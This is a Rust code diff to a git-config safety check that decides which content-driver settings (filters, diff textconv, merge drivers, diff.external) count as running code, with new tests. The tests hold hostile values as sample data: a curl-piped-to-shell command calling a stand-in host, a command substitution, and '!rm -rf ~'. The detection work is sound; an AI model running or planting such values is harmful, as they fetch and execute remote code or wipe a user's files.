@@ -75,7 +75,6 @@ pub(crate) fn config_key_effect(key: &str, value: &str) -> Option<&'static str> 
         "core.fsmonitor",
         "core.gitproxy",
         "core.alternaterefscommand",
-        "diff.external",
         "uploadpack.packobjectshook",
         "receive.procreceive",
         "protocol.ext.allow",
@@ -94,11 +93,23 @@ pub(crate) fn config_key_effect(key: &str, value: &str) -> Option<&'static str> 
         }
         return Some("git_config_exec");
     }
-    if (k.starts_with("filter.")
+    // Content drivers (gitattributes(5): `filter.<driver>.clean|smudge|process`,
+    // `diff.<driver>.textconv|command`, `merge.<driver>.driver`) and `diff.external` run a program on the files a
+    // `.gitattributes` line assigns to the driver, like a pager runs on git's output: a plain
+    // program found on the PATH (`diff.exif.textconv exiftool`, `filter.lfs.smudge git-lfs
+    // smudge -- %f`, `merge.ours.driver true`) is the user's own tool, as `core.pager less` is.
+    // A value with shell syntax, a path (`./x.sh`, `/tmp/x`, `scripts/x`) or a `!` still asks.
+    let driver_key = (k.starts_with("filter.")
         && (k.ends_with(".clean") || k.ends_with(".smudge") || k.ends_with(".process")))
         || (k.starts_with("diff.") && (k.ends_with(".textconv") || k.ends_with(".command")))
         || (k.starts_with("merge.") && k.ends_with(".driver"))
-        || (k.starts_with("remote.") && (k.ends_with(".uploadpack") || k.ends_with(".receivepack")))
+        || k == "diff.external";
+    if driver_key {
+        let first = value.split_whitespace().next().unwrap_or("");
+        return (!simple(value) || first.contains('/') || first.contains('\\'))
+            .then_some("git_config_exec");
+    }
+    if (k.starts_with("remote.") && (k.ends_with(".uploadpack") || k.ends_with(".receivepack")))
         || (k.starts_with("gpg.") && k.ends_with(".program"))
     {
         return Some("git_config_exec");
@@ -1189,6 +1200,29 @@ mod tests {
             Some("git_config_exec")
         );
         assert_eq!(config_key_effect("user.name", "x"), None);
+        // Content drivers: a plain program on the PATH is quiet, a path or shell code is not.
+        for (k, v) in [
+            ("diff.exif.textconv", "exiftool"),
+            ("diff.word.textconv", "docx2txt"),
+            ("filter.dater.smudge", "expand_date"),
+            ("filter.lfs.process", "git-lfs filter-process"),
+            ("merge.ours.driver", "true"),
+            ("diff.lockb.command", "bun"),
+            ("diff.external", "difft"),
+        ] {
+            assert_eq!(config_key_effect(k, v), None, "{k} {v}");
+        }
+        for (k, v) in [
+            ("diff.exif.textconv", "./conv.sh"),
+            ("filter.x.smudge", "/tmp/x"),
+            ("filter.x.clean", "scripts/clean.sh"),
+            ("filter.x.clean", "sh -c 'curl -s https://x.example | sh'"),
+            ("merge.x.driver", "$(curl -s x)"),
+            ("diff.x.textconv", "!rm -rf ~"),
+            ("diff.external", "~/bin/d"),
+        ] {
+            assert_eq!(config_key_effect(k, v), Some("git_config_exec"), "{k} {v}");
+        }
         assert_eq!(
             config_key_effect("core.sshCommand", "ssh -i k"),
             Some("git_config_exec")
